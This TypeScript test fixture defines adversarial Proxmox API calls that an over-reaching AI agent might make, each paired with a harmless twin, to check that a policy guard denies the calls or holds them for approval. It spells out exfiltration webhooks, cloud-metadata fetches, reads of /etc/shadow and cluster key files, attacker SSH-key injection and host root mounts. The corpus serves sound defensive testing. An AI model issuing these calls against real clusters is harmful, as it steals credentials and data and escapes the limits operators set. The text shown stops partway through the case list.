/**
 * The adversarial policy corpus: calls an agent that wants more than the operator granted would
 * make, each under the policy where it matters, each with a harmless twin that must still run.
 * Written against the demo preset of the simulator (pve1 is the node the API lands on; VMs
 * 100–128 with tags and pools, 9000 a template; guests on pve1: 100 103 106 109 112 115 118 121
 * 124 127).
 *
 * `guard` names what contains the case: an escalation rule (src/policy/escalations.ts) or a part
 * of the policy; the mutation test removes it and checks the case would then run.
 */
import type { HttpMethod } from '../../src/schema/model.js';

export interface CorpusCall {
  method: HttpMethod;
  path: string;
  params?: Record<string, unknown>;
}

export type Guard = { escalation: string } | { risk: string } | { policy: 'targets' | 'scopes' | 'deny' | 'preset' | 'budget' };

export interface CorpusCase {
  id: string;
  /** Escalation class, or the target/scope/task/cluster class of the issue. */
  class: string;
  /** The cluster the run starts on (its policy is the one that matters unless `via` is set). */
  cluster: string;
  /** The script calls through `pve.cluster(via)`. */
  via?: string;
  /** Allowed calls the script makes first (e.g. start a task to wait for). */
  setup?: CorpusCall;
  /** The contained call; `waitTask` waits for the setup call's UPID. */
  call: CorpusCall | 'waitTask';
  expect: 'denied' | 'approval' | 'budget';
  /** The message must say why. */
  why: RegExp;
  twin: { cluster?: string; via?: string; call: CorpusCall };
  guard: Guard;
}

const q = (node: string, vmid: number, rest = '') => `/nodes/${node}/qemu/${vmid}${rest}`;
const ct = (node: string, vmid: number, rest = '') => `/nodes/${node}/lxc/${vmid}${rest}`;
const call = (method: HttpMethod, path: string, params?: Record<string, unknown>): CorpusCall => ({ method, path, ...(params ? { params } : {}) });

/** The policies of the corpus, one cluster each (all on the same simulator). */
export const CORPUS_POLICIES: Record<string, Record<string, unknown>> = {
  ro: { preset: 'read-only' },
  op: { preset: 'operator' },
  // Room for actions on every guest, so they reach the approval step (the guest budget has its own case).
  admin: { preset: 'admin', budget: { guests: 100 } },
  budgeted: { preset: 'admin', approval: { require: [] } },
  scoped: {
    preset: 'operator',
    scopes: { vmids: ['100-109'] },
    allow: ['POST /cluster/bulk-action/guest/*', 'POST /nodes/*/startall', 'POST /cluster/ha/resources', 'PUT /cluster/ha/resources/*', 'POST /cluster/ha/rules', 'POST /nodes/*/qemu/*/clone', 'PUT /pools/*'],
    approval: { require: ['privileged'] },
  },
  nodescoped: { preset: 'admin', scopes: { nodes: ['pve1'] }, approval: { require: ['privileged'] } },
  pve2only: { preset: 'admin', scopes: { nodes: ['pve2'] }, approval: { require: ['privileged'] } },
  guarded: {
    preset: 'admin',
    approval: { require: ['privileged'] },
    targets: [
      { action: 'deny', vmids: [100], comment: 'the production web server' },
      { action: 'approval', tags: ['windows'] },
    ],
  },
  notasks: { preset: 'operator', deny: ['GET /nodes/*/tasks/**'], approval: { require: ['privileged'] } },
  tight: { preset: 'admin', budget: { write: 0 }, approval: { require: ['privileged'] } },
};

const shutdownQ = q('pve1', 118, '/status/shutdown');
const startQ = (vmid: number, node = 'pve1') => q(node, vmid, '/status/start');
const cfgQ = q('pve1', 118, '/config');
const cfgCt = ct('pve1', 106, '/config');
const vzdump = '/nodes/pve1/vzdump';
const harmlessQ = call('PUT', cfgQ, { description: 'corpus twin' });
const harmlessCt = call('PUT', cfgCt, { description: 'corpus twin' });
const harmlessBackup = call('POST', vzdump, { vmid: '118', storage: 'nas', mode: 'snapshot' });
const bulk = (action: string, params?: Record<string, unknown>) => call('POST', `/cluster/bulk-action/guest/${action}`, params);

function escalation(
  id: string,
  cls: string,
  cluster: string,
  c: CorpusCall,
  expect: 'denied' | 'approval',
  why: RegExp,
  twin: CorpusCall,
  rule = id,
): CorpusCase {
  return { id, class: cls, cluster, call: c, expect, why, twin: { call: twin }, guard: { escalation: rule } };
}

export const CORPUS: CorpusCase[] = [
  // --- hard stops ---
  escalation('shutdown-force-stop', 'hard-stop', 'op', call('POST', shutdownQ, { forceStop: 1, timeout: 0 }), 'approval', /forceStop/, call('POST', shutdownQ, { timeout: 30 })),
  escalation('ct-shutdown-force-stop', 'hard-stop', 'op', call('POST', ct('pve1', 106, '/status/shutdown'), { forceStop: true }), 'approval', /forceStop/, call('POST', ct('pve1', 106, '/status/shutdown'), { timeout: 60 }), 'shutdown-force-stop'),
  escalation('bulk-shutdown-force-stop', 'hard-stop', 'admin', bulk('shutdown', { vms: [118], 'force-stop': 1 }), 'approval', /force-stop/, bulk('shutdown', { vms: [118] })),
  // --- physical removal and pruning ---
  escalation('config-delete-force', 'physical-removal', 'op', call('PUT', cfgQ, { delete: 'scsi0', force: 1 }), 'approval', /force/, call('PUT', q('pve1', 109, '/config'), { delete: 'scsi0' })),
  escalation('config-delete-unused', 'physical-removal', 'op', call('PUT', cfgQ, { delete: 'unused0' }), 'approval', /unused/, call('PUT', cfgQ, { delete: 'description' })),
  escalation('config-post-delete-unused', 'physical-removal', 'op', call('POST', cfgQ, { delete: 'unused0,description' }), 'approval', /unused/, call('POST', cfgQ, { delete: 'tags' }), 'config-delete-unused'),
  escalation('ct-delete-unused', 'physical-removal', 'op', call('PUT', cfgCt, { delete: ['unused1'] }), 'approval', /unused/, call('PUT', cfgCt, { delete: ['description'] }), 'config-delete-unused'),
  escalation('backup-remove', 'physical-removal', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', remove: 1 }), 'approval', /prune/, harmlessBackup),
  escalation('backup-prune-backups', 'physical-removal', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', 'prune-backups': 'keep-last=1' }), 'approval', /prune/, call('POST', vzdump, { vmid: '118', storage: 'nas', 'prune-backups': 'keep-all=1' })),
  escalation('backup-maxfiles', 'physical-removal', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', maxfiles: 1 }), 'approval', /backups/, harmlessBackup),
  escalation('backup-job-prune', 'physical-removal', 'admin', call('POST', '/cluster/backup', { schedule: 'sun 01:00', vmid: '118', storage: 'nas', 'prune-backups': 'keep-last=2' }), 'approval', /prune/, call('POST', '/cluster/backup', { schedule: 'sun 01:00', vmid: '118', storage: 'nas' }), 'backup-prune-backups'),
  escalation('replication-remove-job', 'physical-removal', 'admin', call('POST', '/cluster/replication', { id: '118-0', type: 'local', target: 'pve2', remove_job: 'full' }), 'approval', /remove/, call('POST', '/cluster/replication', { id: '118-1', type: 'local', target: 'pve2' })),
  escalation('move-delete-source', 'physical-removal', 'admin', call('POST', q('pve1', 118, '/move_disk'), { disk: 'scsi0', storage: 'nas', delete: 1 }), 'approval', /source volume/, call('POST', q('pve1', 118, '/move_disk'), { disk: 'scsi0', storage: 'nas' })),
  escalation('ct-move-delete-source', 'physical-removal', 'admin', call('POST', ct('pve1', 106, '/move_volume'), { volume: 'rootfs', storage: 'nas', delete: 1 }), 'approval', /source volume/, call('POST', ct('pve1', 106, '/move_volume'), { volume: 'rootfs', storage: 'nas' }), 'move-delete-source'),
  // --- overwrite on restore ---
  escalation('restore-force', 'overwrite', 'admin', call('POST', '/nodes/pve1/qemu', { vmid: 118, archive: 'nas:backup/vzdump-qemu-118-2026_01_01-00_00_00.vma.zst', force: 1 }), 'approval', /existing guest/, call('POST', '/nodes/pve1/qemu', { vmid: 990, archive: 'nas:backup/vzdump-qemu-118-2026_01_01-00_00_00.vma.zst' })),
  escalation('ct-restore-force', 'overwrite', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 106, ostemplate: 'nas:backup/vzdump-lxc-106-2026_01_01-00_00_00.tar.zst', restore: 1, force: 1 }), 'approval', /existing guest/, call('POST', '/nodes/pve1/lxc', { vmid: 991, ostemplate: 'nas:backup/vzdump-lxc-106-2026_01_01-00_00_00.tar.zst', restore: 1 }), 'restore-force'),
  // --- code execution on the host ---
  escalation('backup-script', 'host-exec', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', script: '/root/hook.sh' }), 'denied', /script/, harmlessBackup),
  escalation('backup-dumpdir', 'host-exec', 'op', call('POST', vzdump, { vmid: '118', dumpdir: '/etc/pve' }), 'denied', /dumpdir/, harmlessBackup),
  escalation('backup-tmpdir', 'host-exec', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', tmpdir: '/root' }), 'denied', /tmpdir/, harmlessBackup),
  escalation('backup-job-script', 'host-exec', 'admin', call('POST', '/cluster/backup', { schedule: 'daily', vmid: '118', storage: 'nas', script: '/root/x.sh' }), 'denied', /script/, call('POST', '/cluster/backup', { schedule: 'daily', vmid: '118', storage: 'nas' }), 'backup-script'),
  escalation('backup-job-id', 'root-only', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', 'job-id': 'backup-nightly' }), 'denied', /job-id/, harmlessBackup),
  escalation('guest-hookscript', 'host-exec', 'op', call('PUT', cfgQ, { hookscript: 'local:snippets/hook.pl' }), 'denied', /hookscript/, harmlessQ),
  escalation('ct-hookscript', 'host-exec', 'op', call('PUT', cfgCt, { hookscript: 'local:snippets/hook.pl' }), 'denied', /hookscript/, harmlessCt, 'guest-hookscript'),
  escalation('qemu-args', 'host-exec', 'op', call('PUT', cfgQ, { args: '-chardev file,id=x,path=/etc/shadow' }), 'denied', /args/, harmlessQ),
  escalation('qemu-create-args', 'host-exec', 'admin', call('POST', '/nodes/pve1/qemu', { vmid: 992, name: 'x', args: '-monitor stdio' }), 'denied', /args/, call('POST', '/nodes/pve1/qemu', { vmid: 992, name: 'corpus-twin', memory: 512 }), 'qemu-args'),
  escalation('start-force-cpu', 'root-only', 'op', call('POST', startQ(118), { 'force-cpu': 'host,+vmx' }), 'denied', /force-cpu/, call('POST', startQ(118))),
  escalation('start-migratedfrom', 'root-only', 'op', call('POST', startQ(109), { migratedfrom: 'pve2' }), 'denied', /migratedfrom/, call('POST', startQ(109))),
  escalation('start-stateuri', 'root-only', 'op', call('POST', startQ(109), { stateuri: 'tcp' }), 'denied', /stateuri/, call('POST', startQ(109))),
  escalation('upload-tmpfilename', 'host-exec', 'admin', call('POST', '/nodes/pve1/storage/local/upload', { content: 'iso', filename: 'x.iso', tmpfilename: '/etc/shadow' }), 'denied', /tmpfilename/, call('POST', '/nodes/pve1/storage/local/upload', { content: 'iso', filename: 'x.iso' })),
  // --- credentials and logins ---
  escalation('cloudinit-password', 'credential', 'op', call('PUT', cfgQ, { cipassword: 'hunter2hunter2' }), 'denied', /cipassword/, harmlessQ),
  escalation('cloudinit-user', 'credential', 'op', call('PUT', cfgQ, { ciuser: 'attacker' }), 'denied', /ciuser/, harmlessQ),
  escalation('cloudinit-sshkeys', 'credential', 'op', call('PUT', cfgQ, { sshkeys: 'ssh-ed25519%20AAAAC3Nza%20attacker' }), 'denied', /sshkeys/, harmlessQ),
  escalation('cloudinit-custom', 'credential', 'op', call('PUT', cfgQ, { cicustom: 'user=local:snippets/rootkit.yaml' }), 'denied', /cicustom/, harmlessQ),
  escalation('ct-password', 'credential', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 993, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', password: 'hunter2hunter2' }), 'denied', /password/, call('POST', '/nodes/pve1/lxc', { vmid: 993, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst' })),
  escalation('ct-ssh-keys', 'credential', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 994, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', 'ssh-public-keys': 'ssh-ed25519 AAAA attacker' }), 'denied', /ssh-public-keys/, call('POST', '/nodes/pve1/lxc', { vmid: 994, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst' })),
  escalation('cloudinit-dump-user', 'credential', 'ro', call('GET', q('pve1', 100, '/cloudinit/dump'), { type: 'user' }), 'denied', /type/, call('GET', q('pve1', 100, '/cloudinit/dump'), { type: 'network' })),
  // --- host resources exposed to guests ---
  escalation('qemu-host-pci', 'host-resource', 'op', call('PUT', cfgQ, { hostpci0: '0000:01:00.0,pcie=1' }), 'denied', /hostpci0/, call('PUT', cfgQ, { hostpci0: 'mapping=gpu0' })),
  escalation('qemu-host-usb', 'host-resource', 'op', call('PUT', cfgQ, { usb0: 'host=1d6b:0002' }), 'denied', /usb0/, call('PUT', cfgQ, { usb0: 'spice' })),
  escalation('qemu-host-serial', 'host-resource', 'op', call('PUT', cfgQ, { serial0: '/dev/ttyS0' }), 'denied', /serial0/, call('PUT', cfgQ, { serial0: 'socket' })),
  escalation('qemu-host-parallel', 'host-resource', 'op', call('PUT', cfgQ, { parallel0: '/dev/parport0' }), 'denied', /parallel0/, harmlessQ),
  escalation('qemu-disk-host-path', 'host-resource', 'op', call('PUT', cfgQ, { scsi1: '/dev/sda' }), 'denied', /scsi1/, call('PUT', cfgQ, { scsi1: 'local-lvm:1' })),
  escalation('qemu-disk-import-host-file', 'host-resource', 'op', call('POST', cfgQ, { scsi2: 'local-lvm:0,import-from=/etc/pve/priv/authkey.key' }), 'denied', /scsi2/, call('POST', cfgQ, { scsi2: 'local-lvm:1' }), 'qemu-disk-host-path'),
  escalation('ct-bind-mount-root', 'host-resource', 'op', call('PUT', cfgCt, { mp0: '/,mp=/host' }), 'denied', /mp0/, call('PUT', cfgCt, { mp0: 'local-lvm:1,mp=/data' }), 'ct-mount-host-path'),
  escalation('ct-device-mount', 'host-resource', 'op', call('PUT', cfgCt, { mp1: 'volume=/dev/sda,mp=/mnt/disk' }), 'denied', /mp1/, call('PUT', cfgCt, { mp1: 'local-lvm:1,mp=/mnt/disk' }), 'ct-mount-host-path'),
  escalation('ct-device', 'host-resource', 'op', call('PUT', cfgCt, { dev0: '/dev/sda' }), 'denied', /dev0/, harmlessCt),
  escalation('ct-features', 'host-resource', 'op', call('PUT', cfgCt, { features: 'nesting=1,mknod=1' }), 'denied', /features/, call('PUT', cfgCt, { features: 'nesting=1' })),
  escalation('ct-privileged', 'host-resource', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 995, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', unprivileged: 0 }), 'denied', /unprivileged/, call('POST', '/nodes/pve1/lxc', { vmid: 995, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', unprivileged: 1 })),
  escalation('ct-rootfs-host-path', 'host-resource', 'admin', call('POST', '/nodes/pve1/lxc', { vmid: 996, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', rootfs: '/var/lib/vz' }), 'denied', /rootfs/, call('POST', '/nodes/pve1/lxc', { vmid: 996, ostemplate: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst', rootfs: 'local-lvm:8' }), 'ct-mount-host-path'),
  escalation('restore-host-path', 'host-resource', 'admin', call('POST', '/nodes/pve1/qemu', { vmid: 997, archive: '/root/stolen.vma' }), 'denied', /archive/, call('POST', '/nodes/pve1/qemu', { vmid: 997, archive: 'nas:backup/vzdump-qemu-118-2026_01_01-00_00_00.vma.zst' })),
  // --- data leaving the cluster, the node contacting addresses ---
  { id: 'remote-migrate', class: 'data-egress', cluster: 'admin', call: call('POST', q('pve1', 118, '/remote_migrate'), { 'target-endpoint': 'host=203.0.113.7,apitoken=PVEAPIToken=root@pam!x=00000000-0000-0000-0000-000000000000', 'target-storage': 'local-lvm', 'target-bridge': 'vmbr0' }), expect: 'denied', why: /privileged/, twin: { call: call('POST', q('pve1', 118, '/migrate'), { target: 'pve2' }) }, guard: { risk: 'remote-migration' } },
  { id: 'ct-remote-migrate', class: 'data-egress', cluster: 'admin', call: call('POST', ct('pve1', 106, '/remote_migrate'), { 'target-endpoint': 'host=203.0.113.7,apitoken=x', 'target-storage': 'local-lvm', 'target-bridge': 'vmbr0' }), expect: 'denied', why: /privileged/, twin: { call: call('POST', ct('pve1', 106, '/migrate'), { target: 'pve2', restart: 1 }) }, guard: { risk: 'remote-migration' } },
  { id: 'download-url', class: 'data-egress', cluster: 'admin', call: call('POST', '/nodes/pve1/storage/local/download-url', { content: 'iso', filename: 'x.iso', url: 'http://169.254.169.254/latest/meta-data' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/storage/local/content') }, guard: { risk: 'node-contacts-address' } },
  { id: 'query-url-metadata', class: 'data-egress', cluster: 'ro', call: call('GET', '/nodes/pve1/query-url-metadata', { url: 'http://10.0.0.1:8080/admin' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/status') }, guard: { risk: 'node-contacts-address' } },
  { id: 'scan-cifs', class: 'data-egress', cluster: 'ro', call: call('GET', '/nodes/pve1/scan/cifs', { server: '203.0.113.9', username: 'u', password: 'p' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/scan/lvm') }, guard: { risk: 'node-contacts-address' } },
  { id: 'scan-nfs', class: 'data-egress', cluster: 'ro', call: call('GET', '/nodes/pve1/scan/nfs', { server: '203.0.113.9' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/scan/zfs') }, guard: { risk: 'node-contacts-address' } },
  { id: 'oci-pull', class: 'data-egress', cluster: 'admin', call: call('POST', '/nodes/pve1/storage/local/oci-registry-pull', { reference: 'evil.example/x:latest' }), expect: 'denied', why: /privileged/, twin: { call: call('GET', '/nodes/pve1/storage/local/status') }, guard: { risk: 'node-contacts-address' } },
  // Outbound integrations: the whole operation is privileged (schema/risk-egress.ts); the twin reads the same integration.
  ...(
    [
      ['notify-webhook', call('POST', '/cluster/notifications/endpoints/webhook', { name: 'exfil', url: 'https://203.0.113.5/hook', method: 'post' }), call('GET', '/cluster/notifications/endpoints/webhook'), 'notification-webhook'],
      ['notify-webhook-update', call('PUT', '/cluster/notifications/endpoints/webhook/chat', { url: 'https://203.0.113.5/hook' }), call('GET', '/cluster/notifications/endpoints/webhook/chat'), 'notification-webhook'],
      ['notify-gotify', call('POST', '/cluster/notifications/endpoints/gotify', { name: 'exfil', server: 'https://203.0.113.5', token: 'corpus' }), call('GET', '/cluster/notifications/endpoints/gotify'), 'notification-gotify'],
      ['notify-smtp-no-password', call('POST', '/cluster/notifications/endpoints/smtp', { name: 'exfil', server: '203.0.113.5', 'from-address': 'pve@example.com', mailto: ['exfil@example.net'] }), call('GET', '/cluster/notifications/endpoints/smtp'), 'notification-smtp'],
      ['notify-smtp-update', call('PUT', '/cluster/notifications/endpoints/smtp/smtp-relay', { server: '203.0.113.5', password: 'hunter2hunter2' }), call('GET', '/cluster/notifications/endpoints/smtp/smtp-relay'), 'notification-smtp'],
      ['notify-sendmail', call('POST', '/cluster/notifications/endpoints/sendmail', { name: 'exfil', mailto: ['exfil@example.net'] }), call('GET', '/cluster/notifications/endpoints/sendmail'), 'notification-sendmail'],
      ['notify-matcher', call('POST', '/cluster/notifications/matchers', { name: 'everything', target: ['chat'] }), call('GET', '/cluster/notifications/matchers'), 'notification-matchers'],
      ['notify-matcher-update', call('PUT', '/cluster/notifications/matchers/backup-failures', { target: ['chat'], 'match-severity': ['info', 'notice', 'warning', 'error'] }), call('GET', '/cluster/notifications/matchers/backup-failures'), 'notification-matchers'],
      ['notify-target-test', call('POST', '/cluster/notifications/targets/chat/test'), call('GET', '/cluster/notifications/targets'), 'notification-test'],
      ['metric-server', call('POST', '/cluster/metrics/server/exfil', { type: 'influxdb', server: '203.0.113.8', port: 8086 }), call('GET', '/cluster/metrics/server'), 'metric-servers'],
      ['metric-server-update', call('PUT', '/cluster/metrics/server/influx', { server: '203.0.113.8', port: 8086 }), call('GET', '/cluster/metrics/server/influx'), 'metric-servers'],
      ['sdn-ipam-plugin', call('POST', '/cluster/sdn/ipams', { ipam: 'exfil', type: 'netbox', url: 'https://203.0.113.9/api', token: 'corpus' }), call('GET', '/cluster/sdn/ipams'), 'sdn-ipam-plugins'],
      ['sdn-dns-plugin', call('POST', '/cluster/sdn/dns', { dns: 'exfil', type: 'powerdns', url: 'https://203.0.113.9/api/v1/servers/localhost', key: 'corpus' }), call('GET', '/cluster/sdn/dns'), 'sdn-dns-plugins'],
    ] as const
  ).map(([id, c, twin, rule]): CorpusCase => ({ id, class: 'data-egress', cluster: 'admin', call: c, expect: 'denied', why: /privileged/, twin: { call: twin }, guard: { risk: rule } })),
  // Parameters that send data out on ordinary operations; the twin is the same call without them.
  escalation('backup-mailto', 'data-egress', 'op', call('POST', vzdump, { vmid: '118', storage: 'nas', mailto: 'exfil@example.net' }), 'denied', /mailto/, harmlessBackup),
  escalation('backup-job-mailto', 'data-egress', 'admin', call('POST', '/cluster/backup', { schedule: 'daily', vmid: '118', storage: 'nas', mailto: 'exfil@example.net' }), 'denied', /mailto/, call('POST', '/cluster/backup', { schedule: 'daily', vmid: '118', storage: 'nas' }), 'backup-mailto'),
  escalation('sdn-zone-peers', 'data-egress', 'admin', call('POST', '/cluster/sdn/zones', { zone: 'exfilvx', type: 'vxlan', peers: '203.0.113.10' }), 'denied', /peers/, call('POST', '/cluster/sdn/zones', { zone: 'corpusvx', type: 'simple' }), 'sdn-peers'),
  escalation('sdn-zone-dns', 'data-egress', 'admin', call('POST', '/cluster/sdn/zones', { zone: 'exfildns', type: 'simple', dns: 'pdns', dnszone: 'corpus.example' }), 'denied', /dns/, call('POST', '/cluster/sdn/zones', { zone: 'corpusdn', type: 'simple', dnszone: 'corpus.example' })),
  escalation('acme-directory', 'data-egress', 'ro', call('GET', '/cluster/acme/tos', { directory: 'http://169.254.169.254/latest/meta-data' }), 'denied', /directory/, call('GET', '/cluster/acme/tos')),
  escalation('acme-meta-directory', 'data-egress', 'ro', call('GET', '/cluster/acme/meta', { directory: 'http://10.0.0.1:8080/admin' }), 'denied', /directory/, call('GET', '/cluster/acme/meta'), 'acme-directory'),
  { id: 'agent-exec-status', class: 'read-only', cluster: 'ro', call: call('GET', q('pve1', 100, '/agent/exec-status'), { pid: 1 }), expect: 'denied', why: /privileged/, twin: { call: call('GET', q('pve1', 100, '/agent/info')) }, guard: { risk: 'exec-status' } },
  // --- guard rails bypassed ---
  escalation('skiplock', 'lock-bypass', 'op', call('PUT', cfgQ, { description: 'x', skiplock: 1 }), 'denied', /skiplock/, harmlessQ),
  escalation('stop-skiplock', 'lock-bypass', 'budgeted', call('POST', q('pve1', 118, '/status/stop'), { skiplock: 1 }), 'denied', /skiplock/, call('POST', startQ(118)), 'skiplock'),
  escalation('qemu-lock', 'lock-bypass', 'op', call('PUT', cfgQ, { lock: 'backup' }), 'denied', /lock/, harmlessQ),
  escalation('migrate-local-devices', 'lock-bypass', 'admin', call('POST', q('pve1', 118, '/migrate'), { target: 'pve2', force: 1 }), 'denied', /force/, call('POST', q('pve1', 118, '/migrate'), { target: 'pve2' })),
  // --- every guest at once ---
  escalation('bulk-shutdown-all', 'bulk', 'admin', bulk('shutdown'), 'approval', /every guest/, bulk('shutdown', { vms: [118] }), 'bulk-every-guest'),
  escalation('bulk-start-all', 'bulk', 'admin', bulk('start', { vms: [] }), 'approval', /every guest/, bulk('start', { vms: [118] }), 'bulk-every-guest'),
  escalation('bulk-suspend-all', 'bulk', 'admin', bulk('suspend'), 'approval', /every guest/, bulk('suspend', { vms: [127] }), 'bulk-every-guest'),
  escalation('bulk-migrate-all', 'bulk', 'admin', bulk('migrate', { target: 'pve2' }), 'approval', /every guest/, bulk('migrate', { target: 'pve2', vms: [118] }), 'bulk-every-guest'),
  escalation('startall', 'bulk', 'admin', call('POST', '/nodes/pve1/startall'), 'approval', /every guest/, call('POST', '/nodes/pve1/startall', { vms: '118' }), 'node-every-guest'),
  escalation('migrateall', 'bulk', 'admin', call('POST', '/nodes/pve1/migrateall', { target: 'pve2' }), 'approval', /every guest/, call('POST', '/nodes/pve1/migrateall', { target: 'pve2', vms: '118' }), 'node-every-guest'),
  { id: 'bulk-guest-budget', class: 'bulk', cluster: 'budgeted', call: bulk('start'), expect: 'budget', why: /guest budget/, twin: { call: bulk('start', { vms: [118, 127] }) }, guard: { policy: 'budget' } },
  // --- targets under a guest scope (VMIDs 100-109) ---
  { id: 'scope-bulk-vms-array', class: 'targets', cluster: 'scoped', call: bulk('shutdown', { vms: [105, 115] }), expect: 'denied', why: /VMID 115, outside .*scopes\.vmids/, twin: { call: bulk('shutdown', { vms: [105] }) }, guard: { policy: 'scopes' } },
  { id: 'scope-bulk-every-guest', class: 'targets', cluster: 'scoped', call: bulk('start'), expect: 'denied', why: /every guest/, twin: { call: bulk('start', { vms: [107] }) }, guard: { policy: 'scopes' } },
  { id: 'scope-startall-string-list', class: 'targets', cluster: 'scoped', call: call('POST', '/nodes/pve1/startall', { vms: '103,112' }), expect: 'denied', why: /VMID 112/, twin: { call: call('POST', '/nodes/pve1/startall', { vms: '103' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-ha-resource', class: 'targets', cluster: 'scoped', call: call('POST', '/cluster/ha/resources', { sid: 'vm:115', state: 'stopped' }), expect: 'denied', why: /VMID 115/, twin: { call: call('POST', '/cluster/ha/resources', { sid: 'vm:107', state: 'started' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-ha-bare-vmid', class: 'targets', cluster: 'scoped', call: call('PUT', '/cluster/ha/resources/116', { state: 'stopped' }), expect: 'denied', why: /VMID 116/, twin: { call: call('PUT', '/cluster/ha/resources/107', { state: 'started' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-ha-rule', class: 'targets', cluster: 'scoped', call: call('POST', '/cluster/ha/rules', { rule: 'pin', type: 'node-affinity', resources: 'vm:107,vm:121', nodes: 'pve1' }), expect: 'denied', why: /VMID 121/, twin: { call: call('POST', '/cluster/ha/rules', { rule: 'pin2', type: 'node-affinity', resources: 'vm:107', nodes: 'pve1' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-foreign-volume', class: 'targets', cluster: 'scoped', call: call('PUT', q('pve1', 109, '/config'), { scsi3: 'local-lvm:vm-118-disk-0' }), expect: 'denied', why: /VMID 118 \(its volume\)/, twin: { call: call('PUT', q('pve1', 109, '/config'), { scsi3: 'local-lvm:1' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-foreign-volume-import', class: 'targets', cluster: 'scoped', call: call('POST', q('pve1', 109, '/config'), { scsi4: 'local-lvm:0,import-from=ceph:vm-121-disk-0' }), expect: 'denied', why: /VMID 121 \(its volume\)/, twin: { call: call('POST', q('pve1', 109, '/config'), { scsi4: 'local-lvm:0,import-from=local:iso/debian.iso' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-clone-destination', class: 'targets', cluster: 'scoped', call: call('POST', q('pve1', 109, '/clone'), { newid: 150 }), expect: 'denied', why: /VMID 150/, twin: { call: call('POST', q('pve1', 109, '/clone'), { newid: 108, name: 'x' }) }, guard: { policy: 'scopes' } },
  { id: 'scope-pool-members', class: 'targets', cluster: 'scoped', call: call('PUT', '/pools/development', { vms: '107,118', 'allow-move': 1 }), expect: 'denied', why: /VMID 118/, twin: { call: call('PUT', '/pools/development', { vms: '107' }) }, guard: { policy: 'scopes' } },
  // --- node scope (pve1) ---
  { id: 'nodes-migrate-target', class: 'targets', cluster: 'nodescoped', call: call('POST', q('pve1', 118, '/migrate'), { target: 'pve2' }), expect: 'denied', why: /node pve2/, twin: { call: call('POST', startQ(118)) }, guard: { policy: 'scopes' } },
  { id: 'nodes-ha-guest-elsewhere', class: 'targets', cluster: 'nodescoped', call: call('POST', '/cluster/ha/resources', { sid: 'vm:101', state: 'stopped' }), expect: 'denied', why: /node pve2/, twin: { call: call('POST', '/cluster/ha/resources', { sid: 'vm:118', state: 'started' }) }, guard: { policy: 'scopes' } },
  { id: 'nodes-bulk-every-guest', class: 'targets', cluster: 'nodescoped', call: bulk('shutdown', { vms: [] }), expect: 'denied', why: /every node|every guest/, twin: { call: bulk('shutdown', { vms: [118] }) }, guard: { policy: 'scopes' } },
  { id: 'nodes-bulk-guest-elsewhere', class: 'targets', cluster: 'nodescoped', call: bulk('start', { vms: [118, 119] }), expect: 'denied', why: /node pve2/, twin: { call: bulk('start', { vms: [118] }) }, guard: { policy: 'scopes' } },
  { id: 'nodes-node-less-write', class: 'targets', cluster: 'nodescoped', call: call('POST', '/cluster/sdn/zones', { zone: 'corpus1', type: 'simple' }), expect: 'denied', why: /names no node/, twin: { call: call('POST', '/cluster/sdn/zones', { zone: 'corpus2', type: 'simple', nodes: 'pve1' }) }, guard: { policy: 'scopes' } },
  { id: 'nodes-cluster-write', class: 'targets', cluster: 'nodescoped', call: call('POST', '/pools', { poolid: 'corpus-scoped' }), expect: 'denied', why: /names no node/, twin: { call: call('POST', q('pve1', 118, '/snapshot'), { snapname: 'corpus' }) }, guard: { policy: 'scopes' } },
  { id: 'nodes-localhost', class: 'targets', cluster: 'pve2only', call: call('POST', '/nodes/localhost/qemu/118/status/start'), expect: 'denied', why: /node pve1/, twin: { call: call('POST', '/nodes/pve2/qemu/119/status/start') }, guard: { policy: 'scopes' } },
  // --- target rules: VMID 100 denied, windows-tagged guests need approval ---
  { id: 'target-ha-stop', class: 'targets', cluster: 'guarded', call: call('POST', '/cluster/ha/resources', { sid: 'vm:100', state: 'stopped' }), expect: 'denied', why: /VMID 100 'web-01'.*production web server/, twin: { call: call('POST', '/cluster/ha/resources', { sid: 'vm:118', state: 'stopped' }) }, guard: { policy: 'targets' } },
  { id: 'target-ha-update', class: 'targets', cluster: 'guarded', call: call('PUT', '/cluster/ha/resources/vm:100', { state: 'disabled' }), expect: 'denied', why: /VMID 100/, twin: { call: call('PUT', '/cluster/ha/resources/vm:118', { state: 'started' }) }, guard: { policy: 'targets' } },
  { id: 'target-migrateall', class: 'targets', cluster: 'guarded', call: call('POST', '/nodes/pve1/migrateall', { target: 'pve2' }), expect: 'denied', why: /VMID 100 .*every guest/, twin: { call: call('POST', '/nodes/pve1/migrateall', { target: 'pve2', vms: '118' }) }, guard: { policy: 'targets' } },
